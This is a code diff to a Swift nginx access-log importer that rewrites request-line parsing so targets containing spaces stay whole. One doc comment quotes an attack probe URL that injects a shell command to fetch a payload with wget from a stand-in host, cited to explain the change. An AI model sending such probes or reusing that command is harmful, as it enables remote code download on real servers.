@@ -36,8 +36,8 @@ public struct NginxAccessImporter: Importer {
     public let fieldNotes = """
         `$remote_addr` → `peer_ip`; the client is the rightmost public hop of `$http_x_forwarded_for` when \
         present (the hop our own load balancer appended), else `$remote_addr` → `client_ip`. `$time_local` \
-        (completion time, with its offset) → `time`; `$request` → `method`, `path`, `query` (a malformed \
-        request line is kept whole in `extra.request`); `$status`, `$body_bytes_sent` → `status`, `bytes`; \
+        (completion time, with its offset) → `time`; `$request` → `method` (its start), `extra.protocol` (its end), `path`, `query` (the target whole in between, \
+        spaces included; a malformed request line is kept whole in `extra.request`); `$status`, `$body_bytes_sent` → `status`, `bytes`; \
         `$http_referer`, `$remote_user` → `extra`; `$http_user_agent` → `user_agent`. Trailing fields of \
         common custom formats: `rt=`/`request_time=` or a bare decimal → `duration`; `urt=`, `uct=`, `uht=` \
         → `extra.upstream_*`; `host=` → `host`; a 32-hex token (`$request_id`) → `request_id`; \
@@ -161,11 +161,9 @@ struct NginxAccessParser: RecordParser {
         }
         guard s.atEnd else { return false } // trailing custom fields: the general reader knows them
         // The request line: METHOD origin-form-target [protocol].
-        var r = ByteScanner(request)
-        let method = r.token()
-        let target = r.token()
-        let isMethod = !method.isEmpty && method.count <= 20 && method.allSatisfy { ($0 >= 0x41 && $0 <= 0x5A) || $0 == 0x2D || $0 == 0x5F }
-        guard isMethod, target.first == 0x2F else { return false }
+        guard let parts = RequestLine(request) else { return false }
+        let method = parts.method(request), target = parts.target(request)
+        guard target.first == 0x2F else { return false }
         let xff = quoted.2.flatMap(ByteScanner.optionalBytes)
         let client = xff.flatMap { ByteScanner.clientFromForwardedFor(ByteScanner.string($0)) }
 
@@ -183,7 +181,7 @@ struct NginxAccessParser: RecordParser {
         if let agent = quoted.1.flatMap(ByteScanner.optionalBytes) { sink.batch.setText(.userAgent, agent) }
         // `extra`, keys in ascending order: protocol, referer, remote_user.
         let extra = sink.batch.beginExtra()
-        if !r.atEnd { sink.batch.extraField("protocol", r.rest, start: extra) }
+        if let proto = parts.protocolName(request) { sink.batch.extraField("protocol", proto, start: extra) }
         if let referer = quoted.0.flatMap(ByteScanner.optionalBytes) { sink.batch.extraField("referer", referer, start: extra) }
         if let u = ByteScanner.optionalBytes(user) { sink.batch.extraField("remote_user", u, start: extra) }
         sink.batch.endExtra(start: extra)
@@ -610,20 +608,68 @@ struct NginxAccessParser: RecordParser {
     }
 }
 
-/// Splits `METHOD target PROTOCOL` into method, path and query. A request line that is not of that
-/// shape (`-`, TLS bytes sent to a plain port) is kept whole in `extra.request`.
+/// A request line's parts: the method from its start, the protocol (`HTTP/x.y`, or `-`) from its
+/// end, and the target whole in between, spaces and all. Attack probes send spaces in the URL
+/// (`/shell?cd+/tmp;wget+ a.example/x`), which ALB logs as received and nginx accepts: reading
+/// token by token cut the target at the first space and took the rest for the protocol.
+struct RequestLine {
+    var methodEnd: Int
+    var targetRange: Range<Int>
+    var protocolRange: Range<Int>?
+
+    init?(_ b: UnsafeBufferPointer<UInt8>) {
+        var i = 0
+        while i < b.count, b[i] != 0x20 { i += 1 }
+        guard i > 0, i <= 20, i < b.count else { return nil }
+        for k in 0..<i {
+            let c = b[k]
+            guard (c >= 0x41 && c <= 0x5A) || c == 0x2D || c == 0x5F else { return nil }
+        }
+        methodEnd = i
+        let start = i + 1
+        var end = b.count
+        protocolRange = nil
+        var j = b.count - 1
+        while j >= start, b[j] != 0x20 { j -= 1 }
+        if j >= start, Self.isProtocol(UnsafeBufferPointer(rebasing: b[(j + 1)...])) {
+            protocolRange = (j + 1)..<b.count
+            end = j
+        }
+        // One space separates the parts; a target that begins or ends with another is no target.
+        guard start < end, b[start] != 0x20, b[end - 1] != 0x20 else { return nil }
+        targetRange = start..<end
+    }
+
+    /// `HTTP/1.1`, `HTTP/2.0`, `HTTP/2`, `HTTP/3`, or `-`.
+    static func isProtocol(_ b: UnsafeBufferPointer<UInt8>) -> Bool {
+        if b.count == 1 { return b[0] == 0x2D }
+        guard b.count >= 6, b.count <= 12, b[0] == 0x48, b[1] == 0x54, b[2] == 0x54, b[3] == 0x50, b[4] == 0x2F else { return false }
+        var digits = 0, dots = 0
+        for c in b[5...] {
+            if c >= 0x30 && c <= 0x39 { digits += 1 } else if c == 0x2E, digits > 0, dots == 0 { dots += 1 } else { return false }
+        }
+        return digits > 0 && b[b.count - 1] != 0x2E
+    }
+
+    func method(_ b: UnsafeBufferPointer<UInt8>) -> UnsafeBufferPointer<UInt8> { UnsafeBufferPointer(rebasing: b[..<methodEnd]) }
+    func target(_ b: UnsafeBufferPointer<UInt8>) -> UnsafeBufferPointer<UInt8> { UnsafeBufferPointer(rebasing: b[targetRange]) }
+    /// The protocol, unless it is `-`.
+    func protocolName(_ b: UnsafeBufferPointer<UInt8>) -> UnsafeBufferPointer<UInt8>? {
+        guard let r = protocolRange, r.count > 1 else { return nil }
+        return UnsafeBufferPointer(rebasing: b[r])
+    }
+}
+
+/// Splits `METHOD target PROTOCOL` into method, path and query (`RequestLine`). A request line
+/// that is not of that shape (`-`, TLS bytes sent to a plain port) is kept whole in `extra.request`.
 func splitRequest(_ request: UnsafeBufferPointer<UInt8>, into event: inout Event) {
-    var r = ByteScanner(request)
-    let method = r.token()
-    let target = r.token()
-    let isMethod = !method.isEmpty && method.count <= 20 && method.allSatisfy { ($0 >= 0x41 && $0 <= 0x5A) || $0 == 0x2D || $0 == 0x5F }
-    guard isMethod, !target.isEmpty else {
+    guard let parts = RequestLine(request) else {
         if let whole = ByteScanner.optionalString(request) { event.extra["request"] = whole }
         return
     }
-    event.method = ByteScanner.string(method)
-    if !r.atEnd { event.extra["protocol"] = ByteScanner.string(r.rest) }
-    splitTarget(ByteScanner.string(target), into: &event)
+    event.method = ByteScanner.string(parts.method(request))
+    if let proto = parts.protocolName(request) { event.extra["protocol"] = ByteScanner.string(proto) }
+    splitTarget(ByteScanner.string(parts.target(request)), into: &event)
 }
 
 /// A request target (`/p?q`, or an absolute URL as proxies log it) → path, query and host.
